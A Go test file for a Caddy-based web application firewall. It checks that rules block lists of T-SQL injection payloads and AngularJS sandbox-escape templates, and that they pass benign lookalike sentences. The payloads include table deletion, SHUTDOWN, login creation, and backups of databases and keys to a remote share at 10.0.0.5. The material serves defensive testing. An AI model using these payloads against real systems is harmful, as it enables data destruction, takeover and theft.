package waf

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
)

// tsqlBatchAttacks are attack 74's SQL Server statements that 210201 did
// not read: after a closed quote and a closing bracket (x') delete from
// users--: WHERE (name = '...') and VALUES('...') close one first),
// inside IF, WHILE and BEGIN [TRY|TRAN], DELETE TOP (n), statements it
// did not list (RESTORE from a share, BACKUP of keys, ALTER
// AUTHORIZATION, SET IDENTITY_INSERT, DROP INDEX|SCHEMA, CREATE SYNONYM),
// a money literal first, control characters as white space, and tails
// balanced with quotes that an apostrophe count would miss (N'x'and,
// a quote in a comment or a bracketed name).
var tsqlBatchAttacks = []string{"x') delete from users--", "x') drop table users--", "x') truncate table users--",
	"x') insert into users values('me','admin')--", "x') create login e with password='P@ss1'--", "x') alter login sa with password='x'--",
	"x') grant control to public--", `x') backup database app to disk='\\10.0.0.5\s\a'--`, "x') dbcc checkdb--", "x')) shutdown--",
	"x'))) shutdown--", "x' ) shutdown--", "x')shutdown--", "1) shutdown", "x' if 1=1 delete from users--", "x' if 1=1 shutdown--",
	"x' if 1=1 truncate table users--", "x' if 1=1 insert into users values('me','admin')--", "x' if 1=1 alter login sa with password='x'--",
	`x' if 1=1 backup database app to disk='\\10.0.0.5\s\a'--`, "x' if 1=1 begin delete from users end--", "x' begin delete from users end--",
	"x' begin shutdown end--", "x' begin alter server role sysadmin add member evil end--",
	"x' begin try delete from users end try begin catch end catch--", "x' begin transaction delete from users commit--",
	"x' begin tran truncate table users commit--", "x' while 1=0 delete from users--", "x' delete top(1) from users--",
	"x' delete top(100) percent from users--", "x' delete top (1) users--", "1 if 1=1 delete from users", "1 begin delete from users end",
	`x' restore headeronly from disk='\\10.0.0.5\s\x'--`,
	"x' restore database app from disk='x' with replace--", `x' backup master key to file='\\10.0.0.5\s\k' encryption by password='P@ss1'--`,
	`x' backup service master key to file='\\10.0.0.5\s\k' encryption by password='P@ss1'--`, `x' backup certificate c to file='\\10.0.0.5\s\k'--`,
	"x' alter authorization on database::app to sa--", "x' drop index users.ix--", "x' drop schema s--",
	"x' create synonym users for evil.db.dbo.users--", "x' create master key encryption by password='x'--", "x' set identity_insert users on--",
	"$1 shutdown", "x'\x01shutdown--", "x'\x1fshutdown--", "x'\x1c delete from users--", "x' delete from users where name=N'x'and'a'='a",
	"x' delete from users where a=1 /*'*/ or b='", "x' delete from users where [a'b]=1 or b='", "x' delete from users where 'a'='a",
	"x' insert into users values('me','admin','",
	// a review's: statements, clauses, labels, transaction names and
	// conditions of any length before the statement, and number slots
	"x' print 1 delete from users--", "x' print 1 drop table users--", "x' print 1 shutdown--", "x') print 1 delete from users--",
	"x' set nocount on delete from users--", "x' and 1=0 delete from users--", "x' and 1=0 shutdown--", "x' order by 1 delete from users--",
	"x' collate latin1_general_ci_as delete from users--", "x' l: delete from users--", "x' l: shutdown--", "x' begin tran t delete from users commit--",
	"x' begin tran t shutdown--", "x' begin distributed tran t delete from users commit--", "1 begin tran t delete from users commit",
	"x' begin begin begin begin begin delete from users end end end end end--", "x' begin print 1 delete from users end--",
	"x' if 1=1" + strings.Repeat(" ", 170) + "delete from users--", "x' while 1=1" + strings.Repeat(" ", 170) + "delete top(1) from users--",
	"x' if 1=0 print '" + strings.Repeat("a", 170) + "' else delete from users--"}

// tsqlBatchBenign are attack 74's false positives of 210201 (a plural's
// apostrophe read as a closed quote) and near-misses of the new readings.
var tsqlBatchBenign = []string{"The managers' create user flow is broken on mobile.", "Parents' insert into the newsletter is due Friday.",
	"The admins' drop table is near the window.", "Our clients' revoke access from former staff is automated.",
	"The pitchers' throw 90, then 95 mph in the 9th.", "The teachers' alter table arrangement for exams", "The editors' insert into page 3 was late",
	"Subscribers' insert into the weekly digest", "The admins' create user permission", "Our teachers' create login page",
	"Users' alter user settings page", "Employees' revoke access from old laptops", "Fans' throw 3, then rush",
	"The Joneses' drop table has a broken leg", "1 throw 2, then pass to the wing", "He said ('no') delete from the list",
	"The admins' drop table isn't near", "The kids' if only they would begin", "Teams' begin try outs on Monday",
	"Players' while 1 or 2 delete their apps", "2) restore the backup from the shelf", "$5 shutdown fee", "Type 'shutdown now' to stop",
	// a review's: a later contraction, quoted labels, quoted sentences
	"Editors' delete button doesn't work", "Users' delete from their profile isn't working", "The admins' create user page isn't loading",
	"Our users' create login form doesn't validate emails", "The students' grant applications to the board aren't in",
	"Managers' deny requests on Fridays aren't fair", "Drivers' merge into traffic as they're told",
	"Clients' backup database files to the NAS don't finish", "The teams' alter table migration didn't run",
	"Players' drop trigger happens when it's raining", `Click "Delete account" to close it`, "Click 'Delete all messages' to clear your inbox",
	"Click 'Delete account now' to close it", "Choose 'Grant access to' and pick a user", "The teacher said 'if you begin early you finish early'",
	"Mom said: 'if we begin late, dinner is cold.'", "Parents' delete from the list -- urgent", "3 ways to delete files", "Don't delete files",
	"It's fine, delete from the top", "I'd truncate table names to 30 chars, it's easier"}

// TestTSQLBatch: rule 210201 refuses attack 74's statements through a
// real Caddy (in the query and in JSON), and none of its false positives.
func TestTSQLBatch(t *testing.T) {
	operatorTable(t, "210201", tsqlStatement, tsqlBatchAttacks, []string{"x' if (select count(*) from users)>0 delete from users--",
		"x' delete from users /* /* */ ' */ where a=1 or a='", "x' insert top(1) into users select * from admins--", "-1 delete from users",
		"(1) delete from users", "1 delete from users where 1=1", "1 drop table users,logs", "1) delete from users where (1=1"}, tsqlBatchBenign)
}

// TestTSQLTailReadOnce: the rest of a value is read as SQL, and white
// space and comments are skipped, a bounded number of times however many
// statements and quotes are judged in it (counted, not timed): each
// place is read once, and a value made so that readings never meet is
// read at most tailBound bytes (then refused).
func TestTSQLTailReadOnce(t *testing.T) {
	units := []string{"' delete from x ", "' delete from x '", "' delete from x \"", "' drop table x [", "') if 1=1 drop table x ",
		"' begin delete from x end ", "' delete from x where 'a'='a' ", "' delete from x /* ", "'' delete from x '"}
	for _, unit := range units {
		v := strings.Repeat(unit, 16384/len(unit))
		tr := newTSQLReader(v)
		tr.quoted()
		if tr.read > 4*len(v) {
			t.Errorf("%q over and over: %d bytes read for a value of %d", unit, tr.read, len(v))
		}
	}
	// many quotes before one run of comments or brackets (a review:
	// each quote walked the run again)
	for _, v := range []string{strings.Repeat("'#", 4096) + "\n" + strings.Repeat("#\n", 4096), strings.Repeat("'--", 2730) + "\n" + strings.Repeat("--\n", 2730),
		strings.Repeat("'#", 4096) + "\n" + strings.Repeat(")", 8192), strings.Repeat("'/*", 2730) + "*/" + strings.Repeat(")", 8192)} {
		r := newTSQLReader(v)
		for i := range len(v) {
			if v[i] == '\'' {
				r.skip(i + 1)
			}
		}
		if r.scanned > 4*len(v) || r.steps > 4*len(v) {
			t.Errorf("%.20q...: %d bytes searched for comments' ends, %d places skipped from, for a value of %d", v, r.scanned, r.steps, len(v))
		}
	}
}

// TestCPUBoundTSQLBatch: attack 74's shapes over and over through a real
// Caddy cost what any value of their size does.
func TestCPUBoundTSQLBatch(t *testing.T) {
	repeatedJSONUnder(t, "' if ", "' if 1=1 begin ", "' begin ", "' delete from x '", "' delete from x \"", "') ", "' drop table x [",
		"' while x ", "' if delete from x ", "' throw 1,", "' print 1 delete from x ", "' grant a, ", "' delete from x where '", "x' merge x as ")
}

// angularEscapes are AngularJS sandbox escapes with no string for the
// CRS's 941390 to read (attack 74: the code built with fromCharCode), and
// others that reach Function through a constructor: AngularJS evaluates
// {{...}} that a server reflects into an ng-app page, escaped or not.
var angularEscapes = []string{"{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}",
	"{{constructor.constructor(x)()}}", "{{$on.constructor(x)()}}", "{{[].pop.constructor(x)()}}", "{{ a . constructor ( x ) }}"}

// angularBenign are templates and prose near them.
var angularBenign = []string{"The {{ user.name }} template shows the name", "{{ item.price | currency }}", "A constructor (in JS) builds objects",
	"Call the constructor. {{ it }} is fine", "{{ vm.construct(x) }}"}

// TestAngularConstructor: rule 210111 refuses angularEscapes through a
// real Caddy, in the query and in JSON, and none of angularBenign.
func TestAngularConstructor(t *testing.T) {
	tableOnly(t)
	var misses, passes []probe
	for _, v := range angularEscapes {
		misses = append(misses, probe{name: "query " + v, method: "GET", path: "/api/items?q=" + url.QueryEscape(v)},
			probe{name: "JSON " + v, method: "POST", path: "/api/items", contentType: "application/json", body: jsonString("q", v)})
	}
	for _, v := range angularBenign {
		passes = append(passes, probe{name: "query " + v, method: "GET", path: "/api/items?q=" + url.QueryEscape(v)})
	}
	runBeyondTheCRS(t, nil, misses, passes)
}

// TestCPUBoundManyStartsOneRun: many places a reading starts from (a
// quote, a ;, a UNION) before one long run of comments, blanks or
// brackets cost what any value of their size does through a real Caddy
// (each start walked the whole run: 0.17-0.45 s for 12-16 KiB in 210179,
// 210200, 210201 and 210178, a review).
func TestCPUBoundManyStartsOneRun(t *testing.T) {
	tableOnly(t)
	base, _ := startCaddy(t, "waf")
	margin := time.Duration(cpuMargin)
	for _, c := range []struct{ start, run string }{{"'#", "#\n"}, {";#", "#\n"}, {"'#", ")"}, {"'/*", " "}, {";/*", " "}, {"x' union /*", "#\n"}, {"';--x", "--\n"}} {
		v := strings.Repeat(c.start, 6000/len(c.start)) + "\n*/" + strings.Repeat(c.run, 6000/len(c.run))
		req, _ := http.NewRequest("POST", base+"/api/items", strings.NewReader(jsonString("q", v)))
		req.Header.Set("Content-Type", "application/json")
		readUnder(t, req, fmt.Sprintf("%q over and over, then %q", c.start, c.run), margin*urlsBound)
	}
}
